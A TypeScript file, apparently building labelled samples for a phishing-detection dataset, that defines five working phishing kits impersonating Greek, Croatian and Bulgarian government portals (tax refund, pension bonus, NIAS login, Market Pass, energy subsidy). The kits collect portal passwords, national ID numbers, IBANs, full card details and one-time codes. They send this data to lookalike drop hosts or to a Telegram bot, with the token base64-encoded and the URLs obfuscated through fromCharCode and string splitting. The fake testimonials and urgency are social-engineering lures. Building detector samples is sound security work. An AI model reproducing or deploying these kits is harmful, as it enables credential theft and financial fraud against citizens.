import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, bankLogo, cardFields, codes, doc, govMark, luhnJs, splitJs, tgSendJs } from '../parts/xc-kit.js';

// AADE tax refund: Taxisnet credentials, AFM, then card "for the refund"; posted to a PHP gate.
const aadeKit = doc({
  lang: 'el',
  title: 'myAADE – Επιστροφή φόρου εισοδήματος 2025',
  css: `.bar{background:#0a3d7a;color:#fff;padding:10px 26px;display:flex;justify-content:space-between;align-items:center}
.bar .t{font-size:18px;font-weight:700}.bc{font-size:13px;padding:10px 26px;color:#555;background:#e9eef4}
.main{max-width:640px;margin:24px auto;background:#fff;padding:28px;border-radius:4px}.main h2{color:#0a3d7a;margin-top:0}
.fld{margin:10px 0}.fld label{display:block;font-size:13px;margin-bottom:3px}.fld input{width:100%;padding:10px;border:1px solid #a9b6c6}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.sec{border-top:1px solid #e0e6ee;margin-top:18px;padding-top:10px}
.ok{background:#0a3d7a;color:#fff;border:0;padding:12px 28px;font-size:15px;margin-top:12px}.amt{font-size:26px;color:#0a7a3d;font-weight:700}`,
  body: `<div class="bar"><span class="t">${govMark('ΑΑΔΕ', '#0065b3', 32)} myAADE</span><span>Ανεξάρτητη Αρχή Δημοσίων Εσόδων</span></div>
<div class="bc">Αρχική › Φορολογία εισοδήματος › Επιστροφές</div>
<div class="main"><h2>Επιστροφή φόρου εισοδήματος</h2>
<p>Κατόπιν εκκαθάρισης της δήλωσης Ε1 φορολογικού έτους 2024 προκύπτει ποσό προς επιστροφή:</p><div class="amt">312,48 €</div>
<p style="font-size:14px">Η επιστροφή δεν κατέστη δυνατή λόγω ελλιπών τραπεζικών στοιχείων. Συνδεθείτε για να ολοκληρώσετε την πίστωση εντός 48 ωρών.</p>
<form method="post" action="https://gate.myaade-epistrofi-foroy.com/e1/submit.php" id="af">
<div class="sec"><b>1. Κωδικοί Taxisnet</b>
<div class="fld"><label>Όνομα χρήστη</label><input name="username" required></div>
<div class="fld"><label>Κωδικός</label><input name="password" type="password" required></div>
<div class="fld"><label>ΑΦΜ</label><input name="afm" maxlength="9" required></div></div>
<div class="sec"><b>2. Κάρτα πίστωσης επιστροφής</b>
${cardFields('el', { holder: 'onoma', number: 'karta', mm: 'mm', yy: 'ee', cvv: 'cvv' })}</div>
<button class="ok">Υποβολή αιτήματος</button></form></div>
<script>${luhnJs('ck')}document.getElementById('af').addEventListener('submit',function(e){if(!/^\\d{9}$/.test(this.afm.value)||!ck(this.karta.value)){e.preventDefault();alert('Ελέγξτε τα στοιχεία σας')}})</script>`,
});

// e-EFKA pension bonus: AMKA + Taxisnet + IBAN + card; Telegram drop with base64 token.
const efkaKit = doc({
  lang: 'el',
  title: 'e-ΕΦΚΑ | Έκτακτη οικονομική ενίσχυση συνταξιούχων',
  css: `header{background:#fff;border-bottom:3px solid #00a1de;padding:12px 24px;display:flex;align-items:center;gap:14px}
header b{color:#00539f;font-size:20px}.hero{background:#00539f;color:#fff;padding:24px;text-align:center}.hero h1{margin:0;font-size:24px}
.frm{max-width:540px;margin:22px auto;background:#fff;padding:24px;box-shadow:0 1px 4px rgba(0,0,0,.1)}
.fld{margin:10px 0}.fld label{display:block;font-size:13px;margin-bottom:3px}.fld input{width:100%;padding:10px;border:1px solid #b8c4d0;border-radius:3px}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.go{width:100%;background:#00a1de;color:#fff;border:0;padding:13px;font-size:16px;border-radius:3px}`,
  body: `<header>${govMark('ΕΦΚΑ', '#00539f')}<b>e-ΕΦΚΑ</b><span style="font-size:13px;color:#555">Ηλεκτρονικός Εθνικός Φορέας Κοινωνικής Ασφάλισης</span></header>
<div class="hero"><h1>Έκτακτη ενίσχυση 250 € σε συνταξιούχους</h1><p>Καταβολή έως 30 Νοεμβρίου – απαιτείται επιβεβαίωση στοιχείων</p></div>
<div class="frm"><form id="ef">
<div class="fld"><label>ΑΜΚΑ</label><input name="amka" maxlength="11" required></div>
<div class="fld"><label>Ονοματεπώνυμο</label><input name="name" required></div>
<div class="fld"><label>Κωδικός Taxisnet – χρήστης</label><input name="tu" required></div>
<div class="fld"><label>Κωδικός Taxisnet – συνθηματικό</label><input name="tp" type="password" required></div>
<div class="fld"><label>IBAN λογαριασμού σύνταξης</label><input name="iban" placeholder="GR.." required></div>
${cardFields('el', { number: 'cc', mm: 'm', yy: 'y', cvv: 'cv' })}
<button class="go">Αίτηση καταβολής</button></form></div>
<script>
var tk=atob('${b64('8120047763:AAEfk4_WnP3oLm9sRzQv2yXbHc7TdJa1uKe')}'),ch=atob('${b64('-1002291174855')}');
document.getElementById('ef').onsubmit=function(e){e.preventDefault();var t='EFKA 250\\n';new FormData(this).forEach(function(v,k){t+=k+': '+v+'\\n'});
${tgSendJs('tk', 'ch', 't')}.then(function(){alert('Η αίτησή σας καταχωρίστηκε. Θα λάβετε SMS επιβεβαίωσης.');location='https://www.efka.gov.gr/'})};
</script>`,
});

// e-Građani: a fake NIAS credential chooser; the bank tiles open bank-style login forms that all go to one gate.
const niasKit = doc({
  lang: 'hr',
  title: 'NIAS – Nacionalni identifikacijski i autentifikacijski sustav',
  css: `.h{background:#fff;border-bottom:1px solid #ccd;padding:14px 26px;display:flex;gap:12px;align-items:center}.h b{color:#1b3f8b;font-size:18px}
.c{max-width:760px;margin:26px auto;background:#fff;padding:26px}.c h1{font-size:20px;color:#1b3f8b}
.tiles{display:grid;grid-template-columns:repeat(3,1fr);gap:12px}.tiles button{border:1px solid #cdd5e3;background:#fafbfd;padding:14px;border-radius:4px;cursor:pointer;text-align:left;font-size:13px}
.lvl{font-size:11px;color:#777}#login{display:none;max-width:380px}#login input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #aab}
#login button{background:#1b3f8b;color:#fff;border:0;padding:11px 24px}.note{background:#fff8e1;padding:12px;font-size:14px;margin-bottom:16px}`,
  body: `<div class="h">${govMark('RH', '#c8102e')}<b>e-Građani</b><span style="font-size:13px;color:#666">Prijava u sustav</span></div>
<div class="c"><div class="note">Za preuzimanje rješenja o povratu poreza (iznos: 214,60 EUR) potrebna je prijava vjerodajnicom razine <b>značajna</b> ili više.</div>
<h1>Odaberite vjerodajnicu</h1>
<div class="tiles" id="tiles">
<button data-k="zaba">${bankLogo('zaba', 'ZABA', 22)}<div class="lvl">m-zaba token · značajna</div></button>
<button data-k="pbz">${bankLogo('pbz', 'PBZ', 22)}<div class="lvl">PBZ mToken · značajna</div></button>
<button data-k="rba">${bankLogo('raiffeisen', 'RBA', 22)}<div class="lvl">RBA token · značajna</div></button>
<button data-k="eoi">🪪 Osobna iskaznica (eOI)<div class="lvl">visoka</div></button>
<button data-k="fina">🔑 FINA RDC<div class="lvl">visoka</div></button>
<button data-k="aaiedu">🎓 AAI@EduHr<div class="lvl">niska</div></button>
</div>
<form id="login"><h2 id="lt"></h2><label>Korisničko ime / OIB</label><input name="k" required><label>Lozinka ili PIN</label><input name="p" type="password" required>
<label>Jednokratni kod (APPLI 1)</label><input name="otp" maxlength="8" required><input type="hidden" name="via" id="via"><button>Prijava</button></form></div>
<script src="/nias/s.js"></script>`,
});
const niasJs = `(function(){var g=String.fromCharCode(${codes('https://e-gradjani-gov.hr-povrat.com/nias/zap.php')});
var tiles=document.getElementById('tiles'),f=document.getElementById('login');
tiles.addEventListener('click',function(e){var b=e.target.closest('button');if(!b)return;document.getElementById('via').value=b.dataset.k;document.getElementById('lt').textContent='Prijava: '+b.textContent.trim().split('\\n')[0];tiles.style.display='none';f.style.display='block'});
f.addEventListener('submit',function(e){e.preventDefault();fetch(g,{method:'POST',body:new FormData(f),mode:'no-cors'}).finally(function(){f.innerHTML='<p>Pogrešan jednokratni kod. Pričekajte novi kod i pokušajte ponovno.</p>';})});})();`;

// Market Pass "renewal": card harvest disguised as the food-subsidy programme, with split-string drop URL.
const marketpassKit = doc({
  lang: 'el',
  title: 'Market Pass – Ανανέωση επιδότησης',
  css: `body{background:#eef6fb}.hd{background:#0d5aa7;color:#fff;padding:16px 24px;font-size:20px}.hd span{color:#ffd54a}
.c{max-width:500px;margin:22px auto;background:#fff;border-radius:10px;padding:24px}.pill{display:inline-block;background:#e3f2e6;color:#256b34;padding:4px 10px;border-radius:12px;font-size:12px}
.fld{margin:10px 0}.fld label{display:block;font-size:13px;margin-bottom:3px}.fld input{width:100%;padding:11px;border:1px solid #bcd;border-radius:6px}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.b{width:100%;background:#0d5aa7;color:#fff;border:0;border-radius:6px;padding:13px;font-size:16px}`,
  body: `<div class="hd">Market <span>Pass</span> · gov.gr</div>
<div class="c"><span class="pill">Ενεργή αίτηση</span>
<h2>Ανανέωση Market Pass για 6 μήνες</h2>
<p>Δικαιούστε <b>22 € / μήνα</b> για αγορές τροφίμων. Για την πίστωση του νέου κύκλου, καταχωρίστε την κάρτα στην οποία θα φορτώνεται το ποσό. Θα χρεωθεί 0,90 € για επαλήθευση, το οποίο επιστρέφεται.</p>
<form id="mp"><div class="fld"><label>ΑΦΜ</label><input name="afm" maxlength="9" required></div>
${cardFields('el', { holder: 'k', number: 'n', mm: 'mm', yy: 'yy', cvv: 'c' })}
<button class="b">Ανανέωση</button></form></div>
<script>
${luhnJs('lu')}
var u=${splitJs('https://marketpass-gov.gr-epidotisi.site/api/renew', 6)};
document.getElementById('mp').onsubmit=function(e){e.preventDefault();if(!lu(this.n.value))return alert('Λάθος αριθμός κάρτας');
fetch(u,{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:new URLSearchParams(new FormData(this)).toString()}).catch(function(){}).finally(function(){location.href='/anamoni.html'})};
</script>`,
});
const marketpassWait = doc({
  lang: 'el',
  title: 'Market Pass – Επιβεβαίωση',
  body: `<div style="max-width:460px;margin:40px auto;background:#fff;padding:24px;border-radius:10px"><h3>Επιβεβαίωση από την τράπεζά σας</h3><p>Πληκτρολογήστε τον κωδικό που λάβατε με SMS για την έγκριση της χρέωσης επαλήθευσης 0,90 €.</p>
<form method="post" action="https://marketpass-gov.gr-epidotisi.site/api/otp"><input name="otp" maxlength="8" style="width:100%;padding:11px"><button style="margin-top:10px;width:100%;padding:12px;background:#0d5aa7;color:#fff;border:0">Επιβεβαίωση</button></form></div>`,
});

// Bulgarian "energy help" lure on a blog, with the kit on another host.
const energyLure = doc({
  lang: 'bg',
  title: 'Енергийна помощ 2025 – как да получите компенсацията',
  css: `body{background:#fff;font-family:Georgia,serif}.p{max-width:700px;margin:20px auto;padding:0 14px;line-height:1.7;font-size:17px}.cta{display:block;text-align:center;background:#e8590c;color:#fff;padding:16px;border-radius:6px;font:700 18px Arial;text-decoration:none;margin:24px 0}`,
  body: `<div class="p"><h1>Държавата изплаща по 150 € енергийна помощ на всяко домакинство</h1>
<p><i>Публикувано от Администратор · 12 ноември</i></p>
<p>Министерството на енергетиката стартира програма за компенсиране на сметките за ток през зимния сезон. Помощта е по <b>150 €</b> на домакинство и се превежда директно по банкова карта.</p>
<p>Заявления се приемат само онлайн до края на месеца. Броят на местата е ограничен – вече са одобрени над 214 000 домакинства.</p>
<a class="cta" href="https://energo-pomosht.bg-kompensacii.com/zayavlenie?src=blog">ПРОВЕРЕТЕ ДАЛИ ИМАТЕ ПРАВО →</a>
<p>Коментари (318)</p><p><b>Мария Т.</b>: Получих парите за 2 дни, благодаря!</p><p><b>Иван П.</b>: Работи, току-що ми влязоха по картата.</p></div>`,
});
const energyKit = doc({
  lang: 'bg',
  title: 'Заявление за енергийна компенсация',
  css: `.h{background:#00966e;color:#fff;padding:14px 22px;font-weight:700}.c{max-width:520px;margin:22px auto;background:#fff;padding:24px;border:1px solid #dde}
.fld{margin:10px 0}.fld label{display:block;font-size:13px;margin-bottom:3px}.fld input,.fld select{width:100%;padding:10px;border:1px solid #aab}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.b{background:#00966e;color:#fff;border:0;padding:12px;width:100%;font-size:15px}`,
  body: `<div class="h">Министерство на енергетиката · Програма „Топъл дом“</div>
<div class="c"><h2>Заявление</h2><form method="post" action="https://energo-pomosht.bg-kompensacii.com/zayavlenie/save.php">
<div class="fld"><label>Име и фамилия</label><input name="ime" required></div>
<div class="fld"><label>ЕГН</label><input name="egn" maxlength="10" required></div>
<div class="fld"><label>Електроразпределително дружество</label><select name="erp"><option>ЕРМ Запад</option><option>Енерго-Про</option><option>ЕВН България</option></select></div>
<div class="fld"><label>Клиентски номер</label><input name="klient"></div>
${cardFields('bg', { holder: 'titulyar', number: 'karta', mm: 'mes', yy: 'god', cvv: 'cvv' })}
<button class="b">Изпрати заявлението</button></form></div>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-taxisnet-refund-card-kit',
    label: 'phishing',
    kind: 'tax-refund-card-kit',
    url: 'https://myaade-epistrofi-foroy.com/epistrofi/E1-2024/',
    body: aadeKit,
  },
  {
    id: 'xc-efka-pension-kit',
    label: 'phishing',
    kind: 'gov-benefit-telegram-kit',
    url: 'https://e-efka-gov.epidoma250.online/aitisi',
    body: efkaKit,
  },
  {
    id: 'xc-egradjani-nias-kit',
    label: 'phishing',
    kind: 'gov-sso-chooser-bank-kit',
    url: 'https://e-gradjani-gov.hr-povrat.com/nias/prijava',
    body: niasKit,
    routes: { 'e-gradjani-gov.hr-povrat.com/nias/s.js': jsRoute(niasJs) },
  },
  {
    id: 'xc-marketpass-renewal-kit',
    label: 'phishing',
    kind: 'subsidy-card-kit',
    url: 'https://marketpass-gov.gr-epidotisi.site/ananeosi',
    body: marketpassKit,
    routes: { 'marketpass-gov.gr-epidotisi.site/anamoni.html': htmlRoute(marketpassWait) },
  },
  {
    id: 'xc-energy-subsidy-bg-kit',
    label: 'phishing',
    kind: 'subsidy-lure-offsite-kit',
    url: 'https://energiina-pomosht-2025.blogspot.com/2025/11/150-evro-pomosht.html',
    body: energyLure,
    routes: { 'energo-pomosht.bg-kompensacii.com/zayavlenie': htmlRoute(energyKit) },
  },
];
